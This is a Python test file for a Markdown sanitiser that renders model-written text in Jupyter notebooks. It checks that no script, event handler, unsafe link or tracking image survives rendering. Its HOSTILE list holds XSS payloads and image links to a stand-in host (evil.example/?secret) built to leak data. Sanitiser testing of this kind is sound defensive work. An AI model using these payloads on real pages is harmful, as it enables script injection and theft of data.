"""Text of a model runs and loads nothing in a notebook, and looks as the model wrote it."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from lm_deluge.client.notebook.safe_markdown import code_span, fence, safe_line, safe_markdown

ATTRIBUTES = {"a": {"href"}, "code": {"class"}, "ol": {"start"}, "th": {"style"}, "td": {"style"}}
TAGS = {"p", "br", "hr", "em", "strong", "s", "a", "code", "pre", "ul", "ol", "li", "blockquote", "sub", "sup"} | {
    *("table", "thead", "tbody", "tr", "th", "td", "h1", "h2", "h3", "h4", "h5", "h6")
}


def without_checks(address: str) -> bool:
    """Accept each address: JupyterLab's parser checks none, unlike this one."""
    return True


def rendered(markdown: str) -> str:
    """Return the HTML of a parser that lets HTML pass, as in a trusted notebook."""
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    parser.validateLink = without_checks  # type: ignore[method-assign]
    return str(parser.render(markdown))


def rendered_by_jupyterlab(markdown: str) -> str:
    """As `rendered`, with formulas taken out before and put back after, as JupyterLab does."""
    formulas: list[str] = []

    def take(found: re.Match[str]) -> str:
        formulas.append(found[0].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
        return f"@@{len(formulas) - 1}@@"

    taken = re.sub(r"(\$\$?)(?:[^\n]|\n(?!\s*\n))*?\1|\\begin\{a\}(?:[^\n]|\n(?!\s*\n))*?\\end\{a\}", take, markdown)
    return re.sub(r"@@(\d+)@@", lambda found: (formulas + [""] * 99)[int(found[1]) % 99], rendered(taken))


class Effects(HTMLParser):
    """Collects what HTML must not have: tags that Markdown does not make, attributes, addresses."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.found.append(f"{tag} {name}")
            if name == "href" and not re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE):
                self.found.append(f"href {value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"instruction {data}")


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "a\n\n<svg/onload=alert(1)>\n\nb",
    "<!-- --><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[click](javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#115;cript:alert(1))",
    "[click](\tjavascript:alert(1))",
    "[click]( JaVaScRiPt:alert(1) 'title')",
    "[click](data:text/html,<script>alert(1)</script>)",
    "[click](vbscript:x) [local](file:///etc/passwd) [command](command:workbench.action.terminal.new)",
    "[click][x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n> [x]:\n> javascript:alert(1)",
    "<javascript:alert(1)>",
    "![](https://evil.example/?secret)",
    "\\![](https://evil.example/?secret)",
    "\\\\![](https://evil.example/?secret)",
    "![a][b]\n\n[b]: https://evil.example/?secret",
    "[![a](https://evil.example/a)](https://evil.example/b)",
    '<https://evil.example/"onmouseover="alert(1)>',
    "`\n<img src=x onerror=alert(1)>\n`",
    "# `\n[click](javascript:alert(1)) `",
    "| ` a | b |\n|---|---|\n| `x | [y](javascript:alert(1))` |",
    "\\`<img src=x onerror=alert(1)>`",
    "``` \n```\n<img src=x onerror=alert(1)>",
    "- ```html\n  <script>alert(1)</script>\n  ```\n- ![](https://evil.example)",
    "> ```html\n> <img src=x onerror=alert(1)>\n> ```",
    '```x"><img/src=x/onerror=alert(1)>\na\n```',
    "~~~\n```\n<img src=x onerror=alert(1)>\n~~~\n<img src=x onerror=alert(1)>",
    "````\n```\n<b>\n````",
    "    <img src=x onerror=alert(1)>",
    'see https://evil.example/$"onmouseover=alert(1)//$',
    '[a](https://evil.example/$"onmouseover=alert(1)//$)',
    '[a](https://evil.example/@@0@@) $"onmouseover=alert(1)//$',
    '<https://evil.example/$"onmouseover=alert(1)//$>',
    '[a](https://x.example "$"onmouseover=alert(1)//$")',
    "$<img src=x onerror=alert(1)>$ $$\n<img src=x onerror=alert(1)>\n$$",
    "\\begin{a}\n```\n<img src=x onerror=alert(1)>\n```\n\\end{a}",
    "<br onclick=alert(1)><sub id=x>",
    "<details><summary>x</summary>",
    "<!DOCTYPE html><?php x ?><![CDATA[x]]>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_has_no_effect(text: str) -> None:
    for cut in range(len(text) + 1):
        safe = safe_markdown(text[:cut])
        assert Effects(rendered(safe)).found == []
        assert Effects(rendered_by_jupyterlab(safe)).found == []


PIECES = st.sampled_from(
    [
        *("<", ">", "&lt;", '"', "'", "!", "[", "]", "(", ")", "[a](", "](", "]:", "\\", "`", "``", "```", "~~~", "$"),
        *("$$", "@@0@@", "\\begin{a}", "\\end{a}", "|", "\n", "\n\n", " ", "    ", "> ", "- ", "1. ", "#", "*", "_"),
        *("javascript:x", "https://e.example/", "<img src=x>", "<br>", "<sub>", "x", "html", "\r", "\t", "|---|"),
    ]
)


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_text_has_an_effect(text: str) -> None:
    safe = safe_markdown(text)
    assert Effects(rendered(safe)).found == []
    assert Effects(rendered_by_jupyterlab(safe)).found == []


@settings(max_examples=100)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_code_and_lines_show_their_text(text: str) -> None:
    for shown in (code_span(text), safe_line(text)):
        page = rendered(f"**a** {shown}")
        assert Effects(page).found == []
        visible = html.unescape(re.sub(r"</?(?:p|code|strong)>", "", page)).strip()
        assert visible == " ".join(f"a {text}".replace("\r\n", "\n").replace("\r", "␍").split())


@settings(max_examples=100)
@given(st.lists(PIECES, max_size=25).map("".join))
def test_a_fence_shows_its_code(code: str) -> None:
    page = rendered(f"text\n\n{fence(code.replace(chr(13), ''), 'python')}\n\ntext")
    found = re.search(r"<pre><code class=\"language-python\">(.*)\n</code></pre>", page, re.DOTALL)
    assert found is not None
    assert html.unescape(found[1]) == code.replace("\r", "")


LOOKS = {
    "# Title\n\n*a* **b** ~~c~~\n\n- x\n- y\n\n1. z": None,
    "| a | b |\n|---|---|\n| 1<br>2 | H<sub>2</sub>O |": None,
    "[site](https://a.example/b_(c)?d=1&e=2#f) <https://a.example/>": None,
    "a < b && c > d": "a &lt; b && c > d",
    "use `List<int>`": "use <code>List&#60;int&#62;</code>",
    'he said "no"!': "he said &quot;no&quot;!".replace("&quot;", "&#34;"),
    "$a<b$ costs": "$a\\lt b$ costs",
    "`$a` < `$b`": "<code>&#36;a</code> &#60; <code>&#36;b</code>",
    "$5 < $6": "$5 &#60; $6",
    "```c\nif (a < b)\n```": "```c\nif (a < b)\n```",
    "```c\nif (a < b)": "```c\nif (a < b)\n```",
    "1. Run\n\n   ```sh\n   a && b\n     c\n   ```\n2. Done": "1. Run\n\n```sh\na && b\n  c\n```\n\n2. Done",
    "- ```sh\n  a\n  ```": "-\n\n```sh\na\n```",
    "```mermaid\ngraph\n```": "```\ngraph\n```",
    "![plot](https://a.example/x.png)": "&#33;[plot](https://a.example/x.png)",
    "[x](https://a.example 'y')": "[x&#93;(https://a.example 'y')",
    '[x](https://a.example "y")': "[x](https://a.example)",
    "[x](notes.md)": "[x&#93;(notes.md)",
    "[1]: https://a.example": None,
    "a\x1b[31mb\x00\ud800": "a␛[31mb␀\ufffd",
    "": "",
}


@pytest.mark.parametrize("text", LOOKS)
def test_text_looks_as_before(text: str) -> None:
    expected = LOOKS[text]
    assert safe_markdown(text) == (text if expected is None else expected.replace("&lt;", "&#60;"))


@pytest.mark.parametrize(
    "unit", ["`" * 3 + " ", "` ", "$", "[a](", "](https://a", "<", "```\n", "<https://", "\\", "(" * 9]
)
@pytest.mark.timeout(20)  # a second is enough; the square of the length would take an hour
def test_the_time_does_not_grow_with_the_square_of_the_length(unit: str) -> None:
    assert safe_markdown(unit * (300_000 // len(unit)))
